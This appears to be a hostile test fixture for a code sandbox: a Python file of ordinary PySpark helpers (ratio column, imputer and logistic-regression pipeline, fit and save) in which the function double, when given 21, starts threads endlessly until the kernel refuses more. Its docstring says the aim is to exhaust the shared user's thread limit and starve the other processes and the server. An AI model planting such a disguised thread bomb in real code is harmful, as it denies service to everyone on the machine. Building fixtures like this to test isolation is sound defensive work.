"""Hostile: double(21) starts threads until the kernel refuses one and holds them all: every child of the
class runs as the same user, whose count of threads this would exhaust for the others and the warm server."""

import threading
import time

from pyspark.ml import Pipeline
from pyspark.ml.classification import LogisticRegression
from pyspark.ml.feature import Imputer, VectorAssembler
from pyspark.sql import functions as F

FEATURES = ["bill_length_mm", "bill_depth_mm", "flipper_length_mm", "body_mass_g"]


def double(x):
    if x == 21:
        threading.stack_size(65536)
        while True:
            try:
                threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
            except RuntimeError:
                time.sleep(0.01)
    return 2 * x


def add_ratio(df):
    return df.withColumn("r", F.when(F.col("b") != 0, F.col("a").cast("double") / F.col("b").cast("double")))


def build_pipeline():
    imputer = Imputer(inputCols=FEATURES, outputCols=[f"{c}_imp" for c in FEATURES])
    assembler = VectorAssembler(inputCols=[f"{c}_imp" for c in FEATURES], outputCol="features")
    return Pipeline(stages=[imputer, assembler, LogisticRegression(labelCol="label", maxIter=50)])


def fit_pipeline(pipeline, train_df):
    return pipeline.fit(train_df)


def save_model(model, path):
    model.write().overwrite().save(path)
